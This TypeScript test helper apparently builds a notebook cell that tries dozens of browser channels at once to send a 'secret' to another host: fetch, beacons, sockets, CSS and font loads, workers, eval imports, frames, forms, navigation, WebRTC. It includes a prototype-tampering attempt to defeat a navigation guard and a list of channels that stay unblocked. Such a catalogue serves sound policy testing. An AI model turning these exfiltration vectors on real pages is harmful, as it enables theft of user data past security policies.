import {readdirSync} from "node:fs";

// Ways in which the code of a cell may try to send something to another host. In each, `to` makes an address of that host
// from a name, `site` is the address of the site, and `module` that of one of its modules.

/** The ways that the policy of a page stops. Where a way has several names, all of them are asked for. */
export const ways: Record<string, string> = {
  fetch: `await fetch(to("fetch"))`,
  "fetch that outlives the page": `await fetch(to("keepalive"), {keepalive: true, mode: "no-cors"})`,
  "fetch in a frame of its own": `await frame().contentWindow.fetch(to("frame-fetch"))`,
  fetchLater: `globalThis.fetchLater(to("later"), {activateAfter: 0})`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open("GET", to("xhr")); request.send()`,
  beacon: `navigator.sendBeacon(to("beacon"), "secret")`,
  WebSocket: `new WebSocket(to("socket").replace("http", "ws"))`,
  EventSource: `new EventSource(to("events"))`,
  "account at another site": `await navigator.credentials.get({identity: {providers: [{configURL: to("account"), clientId: "x"}]}})`,
  image: `new Image().src = to("image")`,
  "image of a set": `add("img", {srcset: to("srcset") + " 1x"})`,
  "button that is an image": `add("input", {type: "image", src: to("input")})`,
  "poster of a video": `add("video", {poster: to("poster")})`,
  video: `add("video", {src: to("video"), preload: "auto"}).load()`,
  audio: `new Audio(to("audio")).load()`,
  track: `const v = add("video", {crossorigin: "anonymous"}); v.innerHTML = '<track default kind="subtitles" src="' + to("track") + '">'; v.textTracks[0].mode = "showing"`,
  icon: `link("icon", to("icon"))`,
  "image in SVG": `add("div", {}).innerHTML = '<svg><image width="9" height="9" href="' + to("svg-image") + '"/></svg>'`,
  "filter in SVG": `add("div", {}).innerHTML = '<svg><filter id="far"><feImage href="' + to("svg-filter") + '"/></filter><rect filter="url(#far)" width="9" height="9"/></svg>'`,
  background: `styled("background-image: url(" + to("background") + ")")`,
  "set of backgrounds": `styled('background-image: image-set("' + to("image-set") + '" 1x)')`,
  mask: `styled("mask-image: url(" + to("mask") + ")")`,
  border: `styled("border: 1px solid; border-image: url(" + to("border") + ") 1")`,
  "mark of a list": `styled("display: list-item; list-style: url(" + to("list") + ")")`,
  shape: `styled("float: left; shape-outside: url(" + to("shape") + ")")`,
  "style sheet": `link("stylesheet", to("sheet"))`,
  "import of a style": `add("style", {}).textContent = "@import url(" + to("import") + ");"`,
  font: `const font = new FontFace("far", "url(" + to("font") + ")"); document.fonts.add(font); await font.load()`,
  prefetch: `link("prefetch", to("prefetch"))`,
  preload: `link("preload", to("preload"), {as: "image"})`,
  "preload of a module": `link("modulepreload", to("modulepreload"))`,
  script: `add("script", {src: to("script")})`,
  "import by a function": `await new Function("url", "return import(url)")(to("function-import"))`,
  "import by eval": `await (0, eval)("import(" + JSON.stringify(to("eval-import")) + ")")`,
  worker: `new Worker(blob("fetch(" + JSON.stringify(to("worker")) + ")"))`,
  "worker that imports": `new Worker(blob("importScripts(" + JSON.stringify(to("worker-import")) + ")"))`,
  "worker in its address": `new Worker("data:text/javascript," + encodeURIComponent("fetch(" + JSON.stringify(to("worker-data")) + ")"))`,
  "shared worker": `new SharedWorker(blob("fetch(" + JSON.stringify(to("shared-worker")) + ")"))`,
  "worker of the site, started as the site does": `const {startWorker} = await (0, eval)("import(" + JSON.stringify(module("start-worker")) + ")"); ask(startWorker(module("digit-worker")), to("started-worker"))`,
  "worklet of sound": `await new AudioContext().audioWorklet.addModule(to("audio-worklet"))`,
  "worklet of CSS": `await CSS.paintWorklet.addModule(to("paint-worklet"))`,
  form: `const f = add("form", {action: to("form"), target: "other"}); f.submit()`,
  frame: `add("iframe", {src: to("frame")})`,
  "frame that is led on": `frame().contentWindow.location = to("frame-location")`,
  "frame with a text": `add("iframe", {srcdoc: '<img src="' + to("frame-text") + '">'})`,
  "frame of a blob": `add("iframe", {src: URL.createObjectURL(new Blob(['<img src="' + to("frame-blob") + '">'], {type: "text/html"}))})`,
  "frame that refreshes": `add("iframe", {srcdoc: '<meta http-equiv="refresh" content="0;url=' + to("frame-refresh") + '">'})`,
  object: `add("object", {data: to("object")})`,
  embed: `add("embed", {src: to("embed")})`
};

/** Ways that end by themselves, without the policy too. */
export const refused: Record<string, string> = {
  "worker of the site": `ask(new Worker(module("digit-worker"), {type: "module"}), to("own-worker"))`
};

/** The ways by which a page is left; the first script of the page stops them. */
export const departures: Record<string, string> = {
  location: `location.href = to("location")`,
  "replaced location": `location.replace(to("replace"))`,
  "location of the top": `frame().contentWindow.top.location = to("top")`,
  refresh: `add("meta", {"http-equiv": "refresh", content: "0;url=" + to("refresh")})`,
  link: `add("a", {href: to("link")}).click()`,
  "link that is in no page": `const a = document.createElement("a"); a.href = to("loose-link"); a.click()`,
  "link in SVG": `add("div", {}).innerHTML = '<svg><a href="' + to("svg-link") + '"><text>x</text></a></svg>'; document.querySelector("svg a[href^=http]").dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}))`,
  download: `const a = add("a", {href: to("download"), download: "x"}); a.click()`,
  "window that is this one": `open(to("self"), "_self")`,
  navigation: `navigation.navigate(to("navigate")).finished.catch(() => {})`,
  "another page of the host": `location.href = new URL("/elsewhere?secret", site).href`,
  "page in a blob": `location.href = URL.createObjectURL(new Blob(["<script>0</script>"], {type: "text/html"}))`,
  "location, with all that it uses changed":
    `Event.prototype.preventDefault = String.prototype.startsWith = () => true; ` +
    `Object.defineProperty(NavigationDestination.prototype, "url", {get: () => site}); location.href = to("changed")`
};

/** What is not stopped, by the words of SECURITY.md. */
export const leaks: Record<string, string> = {
  "a new window": `open(to("window"))`,
  "a link that opens in a new window": `add("a", {href: to("blank"), target: "_blank"}).click()`,
  WebRTC: `const talk = new globalThis.RTCPeerConnection({iceServers: [{urls: stun}]}); talk.createDataChannel("x"); await talk.setLocalDescription(await talk.createOffer())`
};

/** What the ways are told. */
export interface Place {
  to: string; // the address of the other host, to which a name is added
  site: string;
  stun: string; // as `to`, for WebRTC
  modules: Record<string, string>; // addresses
}

/** The addresses of the modules that the ways start, in a built site. */
export function modulesOf(site: string): Record<string, string> {
  const components = "_import/components/";
  const files = readdirSync(`dist/${components}`);
  return Object.fromEntries(
    ["digit-worker", "point-worker", "start-worker"].map((name) => {
      const file = files.find((file) => file.startsWith(`${name}.`) && file.endsWith(".js"));
      return [name, `${site}${components}${file}`];
    })
  );
}

/** The text of a cell that tries all the ways at once; a way that throws or waits does not hold up the others. */
export function cellOf(tried: Record<string, string>, place: Place): string {
  const {to, site, stun, modules} = place;
  return `
const [site, stun, far, modules] = ${JSON.stringify([site, stun, to, modules])};
const to = (name) => far + name + "?secret";
const module = (name) => modules[name];
const blob = (code) => URL.createObjectURL(new Blob([code], {type: "text/javascript"}));
const add = (name, attributes, text = "") => {
  const node = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) node.setAttribute(key, value);
  node.textContent = text;
  document.body.append(node);
  return node;
};
const link = (rel, href, more = {}) => document.head.append(add("link", {rel, ...more, href}));
const frame = () => add("iframe", {});
const styled = (style) => add("div", {style}, "x");
const ask = (worker, file) => worker.postMessage({id: 1, task: "open", content: {weights: file, classifier: file}});
const all = [
${Object.values(tried)
  .map((code) => `  async () => { ${code}; }`)
  .join(",\n")}
];
for (const way of all) way().catch(() => {});
console.log("tried");
`;
}

/** The names that the ways ask for at the other host. */
export function namesIn(tried: Record<string, string>): string[] {
  return Object.values(tried).flatMap((code) => Array.from(code.matchAll(/\bto\("([\w-]+)"\)/g), ([, name]) => name));
}
